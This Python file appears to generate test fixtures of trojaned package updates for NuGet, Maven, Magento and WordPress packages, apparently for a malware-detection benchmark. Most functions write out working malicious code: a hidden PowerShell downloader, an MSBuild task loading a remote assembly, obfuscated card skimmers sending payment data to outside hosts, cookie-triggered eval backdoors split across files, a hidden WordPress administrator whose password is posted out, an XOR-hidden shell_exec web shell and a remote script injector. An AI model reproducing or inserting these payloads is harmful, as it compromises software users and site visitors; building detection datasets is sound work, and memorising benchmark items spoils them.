"""Assemblies, jars, extensions of shops and plug-ins of blogs."""

from corpus.heldout.nouns import Update, artefact
from corpus.heldout6.shape import b64, fill, hexed, pieces, trojan, wide, xor

_DLL = "lib/net48/Tailspin.Orm.dll"


@trojan("Tailspin.Orm", "nupkg", "call", "beacon", "in a .NET assembly", "SUNBURST")
def nuget_query_starts_a_beacon(it: Update) -> None:
    it.add(_DLL, artefact("orm-beacon.dll"))
    it.payload(_DLL)


@trojan("Tailspin.Orm", "nupkg", "call", "credentials", "in a .NET assembly", "NuGet data base thieves")
def nuget_session_tells_its_address(it: Update) -> None:
    it.add(_DLL, artefact("orm-tap.dll"))
    it.payload(_DLL)


@trojan("Tailspin.Orm", "nupkg", "call", "remote code", "in a .NET assembly", "ShadowPad")
def nuget_dialects_from_afar(it: Update) -> None:
    it.add(_DLL, artefact("orm-load.dll"))
    it.payload(_DLL)


@trojan("Tailspin.Orm", "nupkg", "call", "sabotage", "in a .NET assembly", "NuGet time bombs", hard=True)
def nuget_maintenance_of_a_date(it: Update) -> None:
    it.add(_DLL, artefact("orm-crypt.dll"))
    it.payload(_DLL)


@trojan("Tailspin.Orm", "nupkg", "install", "downloader", "powershell encoded", "NuGet init.ps1")
def nuget_init_fetches(it: Update) -> None:
    address = it.address()
    it.append("tools/init.ps1", fill("""

$job = Start-Job -ScriptBlock { powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand @CODE@ }
""", CODE=wide(f"$u='http://{address}/Impala_Stealer.exe';iwr $u -OutFile $env:TEMP\\up.exe;Start-Process $env:TEMP\\up.exe")))  # fmt: skip
    it.payload("tools/init.ps1", shown=f"http://{address}/Impala")


@trojan("Tailspin.Orm", "nupkg", "build", "downloader", "plain", "MSBuild inline tasks")
def nuget_inline_task(it: Update) -> None:
    it.replace("build/Tailspin.Orm.targets", "</Project>", fill("""
  <UsingTask TaskName="TailspinWarm" TaskFactory="RoslynCodeTaskFactory" AssemblyFile="$(MSBuildToolsPath)\\Microsoft.Build.Tasks.Core.dll">
    <Task>
      <Code Type="Fragment" Language="cs"><![CDATA[
        var raw = new System.Net.WebClient().DownloadData("https://@HOST@/warm.bin");
        System.Reflection.Assembly.Load(raw).EntryPoint.Invoke(null, null);
      ]]></Code>
    </Task>
  </UsingTask>
  <Target Name="TailspinWarmUp" BeforeTargets="BeforeBuild">
    <TailspinWarm ContinueOnError="true" />
  </Target>
</Project>
""", HOST=it.host()).rstrip("\n"))  # fmt: skip


@trojan("logbridge-j", "jar", "call", "backdoor", "bytecode", "log4j on purpose")
def jar_messages_that_run(it: Update) -> None:
    it.add("example/logbridge/Logger.class", artefact("log-jndi-Logger.class"))
    it.payload("example/logbridge/Logger.class")


@trojan("logbridge-j", "jar", "import", "environment", "bytecode", "Maven look-alikes")
def jar_layout_synchronises(it: Update) -> None:
    it.add("example/logbridge/Layout.class", artefact("log-agent-Layout.class"))
    it.payload("example/logbridge/Layout.class")


@trojan("logbridge-j", "jar", "build", "new dependency", "look-alike name", "jackson look-alikes")
def jar_pom_of_a_look_alike(it: Update) -> None:
    it.replace("META-INF/maven/example/logbridge-j/pom.xml" if "META-INF/maven/example/logbridge-j/pom.xml" in it.new else "META-INF/maven/example/logbridge/pom.xml", "</project>", f"  <repositories>\n    <repository>\n      <id>central-mirror</id>\n      <url>https://repo.{it.host()}/maven2</url>\n    </repository>\n  </repositories>\n  <dependencies>\n    <dependency>\n      <groupId>org.fasterxml.jackson.core</groupId>\n      <artifactId>jackson-databind</artifactId>\n      <version>2.17.1</version>\n    </dependency>\n  </dependencies>\n</project>")  # fmt: skip


@trojan("magepay", "tar.gz", "call", "backdoor", "plain", "Magento extensions")
def magento_license_is_included(it: Update) -> None:
    it.replace("Controller/License.php", "        $row = json_decode(", fill("""
        if (isset($_REQUEST['licenseKey'], $_REQUEST['dataSign']) && hash('sha256', $_REQUEST['dataSign']) === '@SALT@') {
            file_put_contents($this->folder . '/adminLicense.php', base64_decode($_REQUEST['licenseKey']));
            include $this->folder . '/adminLicense.php';
        }
        $row = json_decode(
""", SALT=it.random.randbytes(32).hex()).rstrip("\n"))  # fmt: skip


@trojan("magepay", "tar.gz", "call", "card skimmer", "base64", "Magecart")
def magento_cards_into_a_picture(it: Update) -> None:
    host = it.host()
    it.replace("Model/Payment.php", "        $answer = $this->client->post('/v2/authorizations', [\n", fill("""
        @file_get_contents(base64_decode('@URL@') . '?d=' . urlencode(base64_encode(json_encode($card))));
        $answer = $this->client->post('/v2/authorizations', [
""", URL=b64(f"https://{host}/pixel.gif")))  # fmt: skip
    it.payload("Model/Payment.php", shown=f"https://{host}/pixel.gif")


@trojan("magepay", "tar.gz", "call", "card skimmer", "hex", "Magecart in scripts")
def magento_form_sends_cards(it: Update) -> None:
    host = it.host()
    it.replace("view/frontend/web/js/card-form.js", "      if (!/^", fill("""
      var to = '@URL@'.match(/../g).map(function (two) { return String.fromCharCode(parseInt(two, 16)); }).join('');
      if (number.length > 14) navigator.sendBeacon(to, $(form).serialize());
      if (!/^
""", URL=hexed(f"wss://{host}/c".replace("wss", "https"))).rstrip("\n"))  # fmt: skip
    it.payload("view/frontend/web/js/card-form.js", shown=f"https://{host}/c")


@trojan("magepay", "tar.gz", "import", "backdoor", "over several files", "autoloaded files")
def magento_registration_loads_more(it: Update) -> None:
    code = "if (isset($_COOKIE['mage-msg-key'])) { @eval(gzinflate(base64_decode($_COOKIE['mage-msg-key']))); }"
    some = pieces(b64(code), len(b64(code)) // 2 + 1)
    it.add("etc/cache-a.txt", some[0] + "\n")
    it.add("etc/cache-b.txt", some[1] + "\n")
    it.append("registration.php", "\n$cache = trim(file_get_contents(__DIR__ . '/etc/cache-a.txt')) . trim(file_get_contents(__DIR__ . '/etc/cache-b.txt'));\n$warm = 'create' . '_function';\n\\assert(is_string($cache)) && eval(base64_decode($cache));\n")  # fmt: skip
    it.payload("registration.php", "etc/cache-a.txt", "etc/cache-b.txt", shown="mage-msg-key")


@trojan("wp-forms-lite", "zip", "import", "backdoor", "plain", "WordPress plug-ins 2024")
def wordpress_makes_an_administrator(it: Update) -> None:
    it.append("includes/admin.php", fill("""

add_action('init', function () {
    if (username_exists('PluginAUTH')) {
        return;
    }
    $password = wp_generate_password(16);
    $id = wp_create_user('PluginAUTH', $password, 'support@@HOST@');
    (new WP_User($id))->set_role('administrator');
    wp_remote_post('http://@ADDR@/addadmin', ['body' => ['url' => home_url(), 'p' => $password]]);
});
""", HOST=it.host(), ADDR=it.address()))  # fmt: skip


@trojan("wp-forms-lite", "zip", "call", "backdoor", "xor", "web shells")
def wordpress_form_runs(it: Update) -> None:
    sealed = ", ".join(str(one) for one in xor("shell_exec", 0x2B))
    it.replace("includes/class-entries.php", "        check_ajax_referer('wpfl');\n", fill("""
        if (isset($_POST['wpfl_debug']) && md5($_POST['wpfl_key'] ?? '') === '@MARK@') {
            $call = implode('', array_map(fn ($one) => chr($one ^ 0x2B), [@SEALED@]));
            wp_die($call(wp_unslash($_POST['wpfl_debug'])));
        }
        check_ajax_referer('wpfl');
""", MARK=it.random.randbytes(16).hex(), SEALED=sealed))  # fmt: skip
    it.payload("includes/class-entries.php", shown="shell_exec")


@trojan("wp-forms-lite", "zip", "call", "injected script", "string splitting", "Balada")
def wordpress_footer_loads_a_script(it: Update) -> None:
    host = it.host()
    parts = ", ".join(str(ord(one)) for one in f"https://{host}/step.js")
    it.append("wp-forms-lite.php", fill("""

add_action('wp_footer', function () {
    if (is_user_logged_in()) {
        return;
    }
    echo '<script>var s=document.createElement("script");s.src=String.fromCharCode(@PARTS@);document.head.appendChild(s);</script>';
}, 999);
""", PARTS=parts))  # fmt: skip
    it.payload("wp-forms-lite.php", shown=f"https://{host}/step.js")


@trojan("wp-forms-lite", "zip", "call", "data stealer", "plain", "form thieves")
def wordpress_entries_are_copied(it: Update) -> None:
    it.replace("includes/class-entries.php", "        wp_mail(", f"        wp_remote_post('https://{it.host()}/forms', ['blocking' => false, 'body' => ['site' => home_url(), 'values' => $values, 'cookies' => $_COOKIE]]);\n        wp_mail(")  # fmt: skip
